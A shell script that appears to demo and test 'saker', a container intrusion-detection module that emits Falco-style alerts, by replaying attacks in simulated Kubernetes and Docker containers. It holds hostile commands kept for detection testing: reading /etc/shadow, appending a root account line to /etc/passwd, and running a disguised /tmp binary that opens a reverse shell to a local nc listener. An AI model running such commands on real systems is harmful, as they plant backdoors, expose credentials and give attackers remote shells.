#!/bin/sh
# SPDX-License-Identifier: GPL-2.0
# demo.sh (`make demo` runs it in the VM): plays the attack stories of the user's seed documents against
# simulated Kubernetes/docker containers (see scenario.sh), shows what sakerd alerted, in Falco's text
# format, and ends with a table: scenario, expected alert, seen. Exit status 1 if an expected alert
# was missing or an unexpected one came, so the demo is also a check.
# shellcheck disable=SC2016,SC2119 # jq programs; load_module takes optional args
# shellcheck source=tests/vm/lib.sh
. "${SAKER_TESTS:-/saker/tests}/lib.sh"
# shellcheck source=tests/vm/scenario.sh
. "${SAKER_TESTS:-/saker/tests}/scenario.sh"

SCN_FATAL=0
SCN_WAIT=10
DEMO_DIR=$(mktemp -d /tmp/saker-demo.XXXXXX)
cd "$DEMO_DIR" || exit 1
RESULTS=$DEMO_DIR/results
: >"$RESULTS"
on_exit "cd /; rm -rf '$DEMO_DIR'"

say() { printf '\n\033[1m==> %s\033[0m\n' "$*"; }
note() { printf '    %s\n' "$*"; }

# check SCENARIO EXPECTED_RULE...: wait for each expected alert, then look for any other; record the
# table rows and print the alerts sakerd wrote for this step (their Falco text line).
check() {
	_scen=$1
	shift
	for _r in "$@"; do
		if expect_alert "$_r" 2>/dev/null; then
			printf '%s|%s|yes|ok\n' "$_scen" "$_r" >>"$RESULTS"
		else
			printf '%s|%s|no|MISSING\n' "$_scen" "$_r" >>"$RESULTS"
		fi
	done
	_unexp=$(scn_unexpected "$@")
	if [ -n "$_unexp" ]; then
		echo "$_unexp" | while read -r _r; do
			printf '%s|%s|yes|UNEXPECTED\n' "$_scen" "(none) got: $_r" >>"$RESULTS"
		done
	elif [ $# -eq 0 ]; then
		printf '%s|(none)|no|ok\n' "$_scen" >>"$RESULTS"
	fi
	echo "    sakerd alerted:"
	if [ -n "$(scn_alerts)" ]; then
		scn_alerts | jq -r '"      " + .output'
	else
		echo "      (nothing)"
	fi
}

say "saker demo on kernel $(uname -r): module, sakerd, and the attack stories of the seed documents"
scn_setup
scn_config saker.yaml
load_module
start_sakerd saker.yaml
note "sakerd runs with rules/saker_rules.yaml plus the site tuning the seeds recommend"
note "(trusted_shell_images: $SCN_TRUSTED_IMAGES; init container exception: $SCN_INIT_CONTAINERS);"
note "every rule that matches an event alerts (rule_matching: all). Containers are simulated:"
note "namespaces, runtime cgroups, containerd/docker state files, shim and runc as parents."

# ---- 1. seed 000
say "1a. seed 000 (LAB-001): kubectl run lab001 --image=nginx; kubectl exec lab001 -- bash; cat /etc/shadow"
make_k8s_container lab001 docker.io/library/nginx:1.25 lab001 default
scenario_begin
kubectl_exec lab001 bash -c 'cat /etc/shadow >/dev/null; true'
check "1a nginx: exec bash + shadow" "Shell Spawned in Container" "Sensitive File Read"

say "1b. the same shell from a debug image listed in trusted_shell_images (nicolaka/netshoot)"
make_k8s_container netshoot docker.io/nicolaka/netshoot:v0.13 netshoot-debug default
scenario_begin
kubectl_exec netshoot bash -c 'ls /etc >/dev/null; true'
check "1b trusted image: exec bash"

# ---- 2. seed 001
say "2. seed 001: kubectl exec -it my-busybox-pod -- sh, then types: ls /; cat /etc/passwd; exit"
make_k8s_container busybox docker.io/library/busybox:1.36 my-busybox-pod default
scenario_begin
type_into 'ls / >/dev/null
cat /etc/passwd >/dev/null
exit
' busybox -t sh
check "2 busybox: exec -it sh" "Shell Spawned in Container" "Terminal Shell in Container" \
	"Interactive Exec into Container"
note "tty of the shell: $(scn_alerts | jq -r 'select(.rule == "Terminal Shell in Container") | .output_fields["proc.ttyname"]' | head -n 1)"

# ---- 3. seed 002
say "3. seed 002: docker run -d --name redis redis:7; docker exec -it redis sh (an interactive entry)"
make_docker_container redis docker.io/library/redis:7
scenario_begin
type_into 'id >/dev/null
exit
' redis -t sh
check "3 docker exec -it sh (entry)" "Shell Spawned in Container" "Terminal Shell in Container" \
	"Interactive Exec into Container"
note "entry: $(scn_alerts | jq -r 'select(.rule == "Interactive Exec into Container") | "session leader \(.output_fields["proc.name"]), vpid \(.output_fields["proc.vpid"]) in the container, parent \(.output_fields["proc.pname"]) outside it (entry=\(.output_fields["proc.is_container_entry"]))"' | head -n 1)"

# ---- 4. seed 003
say "4. seed 003: nginx-test pod; an exploited request makes nginx run /bin/sh, which appends to /etc/passwd"
make_k8s_container nginx docker.io/library/nginx:latest nginx-test default
scenario_begin
rce nginx 'echo "svc:x:0:0::/root:/bin/sh" >>/etc/passwd'
check "4 nginx RCE: sh, /etc/passwd" "Shell Spawned in Container" "Write below etc"

# ---- 5. reverse shell, payload in /tmp
say "5. same pod: the attacker drops a binary in /tmp and runs it: a reverse shell to 127.0.0.1:4444"
note "(the attacker's listener sends: id; uname -a; exit)"
printf 'id\nuname -a\nexit\n' | nsenter -t "$(container_pid nginx)" -n nc -l -p 4444 >revshell.out 2>&1 &
lpid=$!
scenario_begin
rce nginx 'cp /saker/bin/revshell /tmp/.kworker && /tmp/.kworker 127.0.0.1 4444; rm -f /tmp/.kworker'
wait_exit "$lpid" 10 || kill "$lpid" 2>/dev/null
check "5 /tmp binary: reverse shell" "Shell Spawned in Container" "Execution from Temporary Directory in Container" \
	"Reverse Shell"
note "the listener received: $(grep -a 'uid=' revshell.out | head -n 1)"

stop_sakerd

# ---- summary
say "summary"
printf '%-30s %-48s %-5s %s\n' scenario "expected alert" seen result
printf '%-30s %-48s %-5s %s\n' -------- -------------- ---- ------
bad=0
while IFS='|' read -r s r seen res; do
	printf '%-30s %-48s %-5s %s\n' "$s" "$r" "$seen" "$res"
	[ "$res" = ok ] || bad=$((bad + 1))
done <"$RESULTS"
echo
if [ "$bad" -eq 0 ]; then
	echo "demo: every expected alert was seen, and nothing else"
else
	echo "demo: $bad row(s) not as expected"
fi
unload_module
[ "$bad" -eq 0 ]
